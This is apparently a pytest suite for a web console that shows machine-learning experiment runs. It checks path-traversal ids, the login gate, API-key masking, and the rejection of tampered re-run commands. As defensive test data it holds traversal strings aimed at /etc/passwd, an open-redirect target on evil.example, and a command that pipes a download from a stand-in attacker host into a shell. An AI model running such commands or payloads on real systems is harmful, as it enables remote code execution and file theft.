"""The console over plain HTTP: pages from a synthetic run folder, ids that try to leave the runs folder, run folders
half-written or from an older version, the key gate, and API keys masked wherever a page shows text."""

from __future__ import annotations

import hashlib
import json
import shutil
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from harness import run_folder_layout as layout
from sandbox.redact import MASK, redact
from serve.app import ServeSettings, create_app
from serve.console_runs import read_run
from tests.console_fixtures import make_run

SECRET = "sk-ant-api03-" + "Zq7" * 12 + "TAILabcdefghij0123456789"


def _tree_digest(root: Path) -> str:
    """Every file's path, size, mtime and bytes: the console must leave all of them as they were."""
    h = hashlib.sha256()
    for p in sorted(root.rglob("*")):
        if p.is_file():
            st = p.stat()
            h.update(f"{p.relative_to(root)} {st.st_size} {st.st_mtime_ns}".encode())
            h.update(p.read_bytes())
    return h.hexdigest()


@pytest.fixture(scope="module")
def built_runs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The runs folder with run r1 (7 experiments, their git history), built once for the module: building the git
    history takes seconds, a copy of it milliseconds. Tests take a copy (:func:`runs`), never this folder."""
    runs_dir = tmp_path_factory.mktemp("built") / "runs"
    runs_dir.mkdir()
    make_run(runs_dir, "r1", 7, secret=SECRET)
    return runs_dir


@pytest.fixture()
def runs(built_runs: Path, tmp_path: Path) -> Path:
    """This test's own copy of the built runs folder (files, times and git history as built), free to change."""
    return Path(shutil.copytree(built_runs, tmp_path / "runs", symlinks=True))


@pytest.fixture(scope="module")
def runs_with_hidden(built_runs: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One copy (and a hidden run folder beside r1) shared by the id tests, which only read."""
    runs_dir = Path(shutil.copytree(built_runs, tmp_path_factory.mktemp("ids") / "runs", symlinks=True))
    (runs_dir / ".hidden").mkdir()
    (runs_dir / ".hidden" / "run.json").write_text("{}")
    return runs_dir


def _client(runs_dir: Path, api_key: str | None = None) -> TestClient:
    return TestClient(create_app(ServeSettings(runs_dir=runs_dir, api_key=api_key)))


def test_pages_show_the_run_and_change_nothing(runs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET)
    before = _tree_digest(runs)
    c = _client(runs)
    listing = c.get("/console/")
    assert listing.status_code == 200
    assert "find the best Python code model under 2 MB" in listing.text and "finished" in listing.text
    page = c.get("/console/runs/r1")
    assert page.status_code == 200
    assert page.text.count('<tr id="row-e0') == 7
    assert "judge says discard e002" in page.text and "<svg" in page.text and 'class="front"' in page.text
    kept = c.get("/console/runs/r1/experiments/e001")
    assert kept.status_code == 200 and "autonas reproduce r1 e001" in kept.text and "+{" in kept.text
    edited = c.get("/console/runs/r1/experiments/e002")
    assert edited.status_code == 200
    assert "discarded ref" in edited.text and "gated_mlp" in edited.text  # the diff shows the code change
    assert "use a gated MLP in nas/model.py" in edited.text  # the plan's code_change words
    assert "Detected a custom API key" in edited.text  # the transcript is shown ...
    assert SECRET[-20:] not in edited.text and SECRET not in edited.text and MASK in edited.text  # ... masked
    assert _tree_digest(runs) == before


@pytest.mark.parametrize(
    "bad",
    [
        "%2e%2e",
        "..%2f..%2fetc",
        "%2fetc%2fpasswd",
        "..%5c..%5cwindows",
        "r1%00",
        "\uff52\uff11",  # full-width "r1"
        "r1\u200b",  # a zero-width space after a real id
        "r\u0131",  # dotless i
        ".hidden",
        "r1..",
    ],
)
def test_ids_that_are_not_plain_names_are_404(runs_with_hidden: Path, bad: str) -> None:
    runs = runs_with_hidden
    before = sorted(p.name for p in runs.iterdir())
    c = _client(runs)
    assert c.get(f"/console/runs/{bad}").status_code == 404
    assert c.get(f"/console/runs/r1/experiments/{bad}").status_code == 404
    assert c.get(f"/console/runs/{bad}/experiments/e001").status_code == 404
    assert c.post(f"/console/runs/{bad}/stop", headers={"X-Autonas-Console": "stop"}).status_code == 404
    assert sorted(p.name for p in runs.iterdir()) == before and not (runs / "r1" / "STOP").exists()


def test_a_link_out_of_the_runs_folder_is_404(runs: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    outside = make_run(tmp_path / "elsewhere", "x", 1)
    (runs / "linked").symlink_to(outside, target_is_directory=True)
    c = _client(runs)
    assert c.get("/console/runs/linked").status_code == 404
    assert "linked" not in c.get("/console/").text


def test_half_written_results_and_missing_files_are_said_not_raised(runs: Path) -> None:
    results = runs / "r1" / layout.WORKSPACE / layout.RESULTS_TSV
    with open(results, "a") as fh:
        fh.write("e008\t\ttrain\tkeep\t2.9")  # a row the agent is still writing: no line end, fields missing
    (runs / "r1" / layout.RUN_JSON).unlink()
    c = _client(runs)
    page = c.get("/console/runs/r1")
    assert page.status_code == 200
    assert page.text.count('<tr id="row-e0') == 7  # the torn row is not shown
    assert "being written" in page.text and "run.json is missing" in page.text
    (runs / "r1" / layout.WORKSPACE / "runs" / "e003" / layout.METRICS_JSON).write_text('{"val_bpb": 2.')
    assert "cannot be read" in c.get("/console/runs/r1/experiments/e003").text
    assert c.get("/console/").status_code == 200  # the server keeps serving


def test_an_older_run_folder_reads(tmp_path: Path) -> None:
    """run.json of an earlier version (budget in seconds), a results.tsv without the later columns, no journal,
    no git, no metrics: the page lists what is missing."""
    run = tmp_path / "old"
    (run / layout.WORKSPACE).mkdir(parents=True)
    (run / layout.RUN_JSON).write_text(json.dumps({"run_id": "old", "goal": "old goal", "budget_s": 600}))
    (run / layout.WORKSPACE / layout.RESULTS_TSV).write_text(
        "experiment\tcommit\tkind\tdecision\tval_bpb\tsize_bytes_int8\ne001\tabc\ttrain\tkeep\t3.1\t500000\n"
    )
    c = _client(tmp_path)
    page = c.get("/console/runs/old")
    assert page.status_code == 200 and "600s" in page.text and "3.1000" in page.text
    assert "older version" in page.text and "noise_bpb" in page.text
    exp = c.get("/console/runs/old/experiments/e001")
    assert exp.status_code == 200 and "no git repository" in exp.text


def test_half_written_rows_are_left_out() -> None:
    header = "\t".join(layout.RESULT_COLUMNS) + "\n"
    full = "\t".join(["e001"] + ["x"] * (len(layout.RESULT_COLUMNS) - 1)) + "\n"
    assert layout.parse_results(header + full).rows[0]["experiment"] == "e001"
    torn = layout.parse_results(header + full + "e002\tab")
    assert len(torn.rows) == 1 and torn.torn == 1
    short = layout.parse_results(header + full + "e002\tab\n")
    assert len(short.rows) == 1 and short.torn == 1
    assert layout.parse_results(header[:20]).rows == []


def test_stop_writes_only_the_stop_file(tmp_path: Path) -> None:
    make_run(tmp_path, "live", 2, finished=False)
    c = _client(tmp_path)
    assert c.post("/console/runs/live/stop").status_code == 403  # not from the console's script
    assert not (tmp_path / "live" / layout.STOP_FILE).exists()
    before = _tree_digest(tmp_path / "live" / layout.WORKSPACE)
    reply = c.post("/console/runs/live/stop", headers={"X-Autonas-Console": "stop"})
    assert reply.status_code == 200 and (tmp_path / "live" / layout.STOP_FILE).is_file()
    assert _tree_digest(tmp_path / "live" / layout.WORKSPACE) == before
    assert read_run(tmp_path, "live").state == "stopping"


def test_a_silent_unfinished_run_reads_as_crashed(tmp_path: Path) -> None:
    make_run(tmp_path, "dead", 2, finished=False)
    assert read_run(tmp_path, "dead").state == "running"
    assert read_run(tmp_path, "dead", now=time.time() + 3600).state == "crashed"


def test_with_a_key_the_console_needs_it(runs: Path) -> None:
    c = _client(runs, api_key="the-server-key-123")
    first = c.get("/console/runs/r1", follow_redirects=False)
    assert first.status_code == 303 and first.headers["location"].startswith("/console/login")
    assert c.get("/console/runs/r1/events").status_code == 401
    assert c.post("/console/runs/r1/stop", headers={"X-Autonas-Console": "stop"}).status_code == 401
    assert c.get("/v1/models").status_code == 401
    wrong = c.post("/console/login", data={"key": "nope", "next": "/console/runs/r1"})
    assert wrong.status_code == 401 and "autonas_console" not in c.cookies
    ok = c.post(
        "/console/login", data={"key": "the-server-key-123", "next": "/console/runs/r1"}, follow_redirects=False
    )
    assert ok.status_code == 303 and ok.headers["location"] == "/console/runs/r1"
    cookie = ok.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie and "the-server-key-123" not in cookie
    assert c.get("/console/runs/r1").status_code == 200
    assert c.get("/v1/models").status_code == 200  # the playground's requests go through on the cookie
    bearer = _client(runs, api_key="the-server-key-123")
    assert bearer.get("/console/", headers={"Authorization": "Bearer the-server-key-123"}).status_code == 200
    sneaky = bearer.post("/console/login", data={"key": "the-server-key-123", "next": "//evil.example/x"})
    assert sneaky.url.path == "/console/"


def test_the_key_the_server_was_given_is_masked_too(runs: Path) -> None:
    """Not in the environment, only on the command line: the console still masks it (and a tail of it)."""
    transcript = runs / "r1" / layout.WORKSPACE / "runs" / "e002" / layout.EDIT_LOGS / "gui_transcript.jsonl"
    transcript.write_text(json.dumps({"step": 0, "text": "key ends in zzKEYVALUE-0042 ok"}) + "\n")
    c = _client(runs, api_key="serverkey-zzKEYVALUE-0042")
    text = c.get("/console/runs/r1/experiments/e002", headers={"Authorization": "Bearer serverkey-zzKEYVALUE-0042"})
    assert "ok" in text.text and "zzKEYVALUE-0042" not in text.text


def test_redact_masks_values_tails_and_shapes() -> None:
    key = "sk-ant-api03-" + "A1b2C3d4" * 6
    text = f"full {key} tail ...{key[-20:]} other sk-proj-{'x' * 30} plain words stay"
    out = redact(text, [key])
    assert key not in out and key[-20:] not in out and "x" * 30 not in out
    assert out.startswith("full ") and out.endswith("plain words stay")


def test_every_page_masks_a_key_wherever_it_sits_in_the_folder(runs: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A key that reached run.json's goal, a judge's reason or a metric (an LLM echoed it) is masked on every page."""
    monkeypatch.setenv("OPENAI_API_KEY", "plainvalue-7781-abcdef-QQ")
    run_json = runs / "r1" / layout.RUN_JSON
    run_json.write_text(run_json.read_text().replace("under 2 MB", "under 2 MB plainvalue-7781-abcdef-QQ"))
    results = runs / "r1" / layout.WORKSPACE / layout.RESULTS_TSV
    results.write_text(results.read_text().replace("judge says keep e001", "judge saw ...7781-abcdef-QQ"))
    metrics = runs / "r1" / layout.WORKSPACE / "runs" / "e001" / layout.METRICS_JSON
    metrics.write_text(json.dumps({**json.loads(metrics.read_text()), "note": "key plainvalue-7781-abcdef-QQ"}))
    c = _client(runs)
    for url in ("/console/", "/console/runs/r1", "/console/runs/r1/experiments/e001"):
        page = c.get(url)
        assert page.status_code == 200 and "7781-abcdef" not in page.text and MASK in page.text, url
    assert "judge saw" in c.get("/console/runs/r1").text


def test_the_plotted_front_is_the_pareto_front() -> None:
    import random

    from nas.pareto import pareto_front
    from serve.console_plots import front_2d

    rng = random.Random(0)
    for n in (1, 2, 5, 40, 200):
        pts = [(float(rng.randint(1, 12)), float(rng.randint(1, 12))) for _ in range(n)]
        assert sorted(front_2d(pts)) == sorted(pareto_front(pts)), pts


def test_the_event_stream_of_a_finished_run_sends_the_page_then_ends(runs: Path) -> None:
    reply = _client(runs).get("/console/runs/r1/events")
    assert reply.status_code == 200 and reply.headers["content-type"].startswith("text/event-stream")
    events = [block for block in reply.text.split("\n\n") if block.strip()]
    assert events[0].startswith("event: update") and events[-1].startswith("event: end")
    update = json.loads(events[0].split("data: ", 1)[1])
    assert update["state"] == "finished" and update["experiments"] == 7 and 'id="row-e007"' in update["html"]


class _Panes(HTMLParser):
    """The experiment page's two panes: for each file shown, (pane id, path, open, marked changed, its text)."""

    def __init__(self) -> None:
        super().__init__()
        self.files: list[tuple[str, str, bool, bool, str]] = []
        self.pane_parent: dict[str, str] = {}  # pane id -> the class of the element that holds it
        self._stack: list[tuple[str, dict[str, str | None]]] = []
        self._file: dict[str, str | bool] | None = None
        self._text: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        if a.get("id") in ("code-pane", "config-pane") and self._stack:
            self.pane_parent[str(a["id"])] = str(self._stack[-1][1].get("class"))
        pane = next((str(x.get("id")) for _, x in reversed(self._stack) if x.get("id", "") in _PANES), None)
        if tag == "details" and pane is not None:
            changed = "changed" in str(a.get("class")).split()
            self._file = {"pane": pane, "path": str(a.get("data-path")), "open": "open" in a, "changed": changed}
        if tag == "span" and self._file is not None and a.get("class") == "badge changed":
            self._file["badge"] = True
        if tag == "pre" and self._file is not None:
            self._text = []
        self._stack.append((tag, a))

    def handle_endtag(self, tag: str) -> None:
        while self._stack and self._stack.pop()[0] != tag:
            pass
        if tag == "pre" and self._file is not None and self._text is not None:
            f = self._file
            marked = bool(f["changed"]) and bool(f.get("badge"))
            self.files.append((str(f["pane"]), str(f["path"]), bool(f["open"]), marked, "".join(self._text)))
            self._file, self._text = None, None

    def handle_data(self, data: str) -> None:
        if self._text is not None:
            self._text.append(data)


_PANES = ("code-pane", "config-pane")


def test_the_experiment_page_shows_its_code_and_config_side_by_side(runs: Path) -> None:
    """e002 changed nas/model.py and its configs: the code pane and the configuration pane sit in one side-by-side
    row, each file's text is the file at the experiment's ref, and exactly the changed files are open and marked."""
    from sandbox.workspace import run_git

    ws = runs / "r1" / layout.WORKSPACE
    ref = f"{layout.DISCARDED_REF_PREFIX}e002"
    page = _client(runs).get("/console/runs/r1/experiments/e002")
    assert page.status_code == 200
    panes = _Panes()
    panes.feed(page.text)
    assert panes.pane_parent == {"code-pane": "side-by-side", "config-pane": "side-by-side"}
    shown = {(pane, path): (opened, marked, text) for pane, path, opened, marked, text in panes.files}
    tree = run_git(ws, "ls-tree", "-r", "--name-only", ref).decode().split()
    changed = set(run_git(ws, "diff-tree", "--no-commit-id", "-r", "--name-only", ref).decode().split())
    assert changed == {"nas/model.py", "configs/plan.json", "configs/train.json"}
    want = {
        ("config-pane" if p.startswith("configs/") else "code-pane", p) for p in tree if p.endswith((".py", ".json"))
    }
    assert set(shown) == want and ("code-pane", "nas/space.py") in want
    for (_, path), (opened, marked, text) in shown.items():
        assert text == run_git(ws, "show", f"{ref}:{path}").decode(), path  # the file as that commit has it
        assert opened == marked == (path in changed), path
    assert "def gated_mlp(x):" in shown[("code-pane", "nas/model.py")][2]
    plan = json.loads(shown[("config-pane", "configs/plan.json")][2])
    assert plan["experiment"] == "e002" and plan["code_change"] == "use a gated MLP in nas/model.py"
    assert json.loads(shown[("config-pane", "configs/train.json")][2]) == {"d_model": 66}
    order = [path for pane, path, *_ in panes.files if pane == "code-pane"]
    assert order[0] == "nas/model.py"  # the changed file first
    record = json.loads((ws / layout.EXPERIMENT_RUNS / "e002" / "code.json").read_text())
    assert f"hash <code>{record['hash'][:16]}</code>" in page.text  # the code the trained model carries


def test_a_configuration_only_experiment_shows_the_code_its_model_carries(tmp_path: Path) -> None:
    """No model code in the workspace (a run without code editing): the code pane shows the files the trained model
    carries (its code/ folder, named by code.json), folded, beside the configuration."""
    from harness.model_code import seed_files

    runs_dir = tmp_path / "runs"
    runs_dir.mkdir()
    make_run(runs_dir, "plain", 1, code_editing=False)
    page = _client(runs_dir).get("/console/runs/plain/experiments/e001")
    assert page.status_code == 200 and "configuration-only run" in page.text
    panes = _Panes()
    panes.feed(page.text)
    assert panes.pane_parent == {"code-pane": "side-by-side", "config-pane": "side-by-side"}
    code = {path: (opened, text) for pane, path, opened, _, text in panes.files if pane == "code-pane"}
    installed = {name: data.decode() for name, data in seed_files().items()}
    assert code == {name: (False, text) for name, text in installed.items()}
    configs = {path for pane, path, *_ in panes.files if pane == "config-pane"}
    assert configs == {"configs/plan.json", "configs/train.json"}


def test_a_discarded_experiments_command_rewritten_in_the_workspace_is_never_offered(runs: Path) -> None:
    """command.json lies in the workspace, which later editors can write: the page offers a stored command to re-run
    only when it starts one of the workers the agent starts, and says why it shows none otherwise."""
    folder = runs / "r1" / layout.WORKSPACE / layout.EXPERIMENT_RUNS / "e002"
    folder.mkdir(parents=True, exist_ok=True)
    stored = folder / layout.COMMAND_JSON
    real = ["-m", "nas", "train", "--arch", "configs/arch.json", "--out", "runs/e002", "--seed", "0"]
    stored.write_text(json.dumps({"python_args": real, "out": "runs/e002", "timeout_s": 60, "model_code": True}))
    c = _client(runs)
    page = c.get("/console/runs/r1/experiments/e002")
    assert page.status_code == 200 and "python -m nas train --arch configs/arch.json --out runs/e002" in page.text
    for hostile in (
        ["-c", "import os; os.system('curl evil.example | sh')"],
        ["-m", "pip", "install", "evil", "--out", "x"],
        ["-m", "nas", "train", "--seed", "0"],  # no --out: not a worker command the agent writes
        ["-m", "nas", "train", "--out", "x", 3],
    ):
        stored.write_text(json.dumps({"python_args": hostile, "out": "x", "timeout_s": 60, "model_code": False}))
        page = c.get("/console/runs/r1/experiments/e002")
        assert page.status_code == 200
        assert "does not start one of the workers" in page.text
        assert (
            "evil" not in page.text and "python -m nas train --seed" not in page.text and "python -c" not in page.text
        )
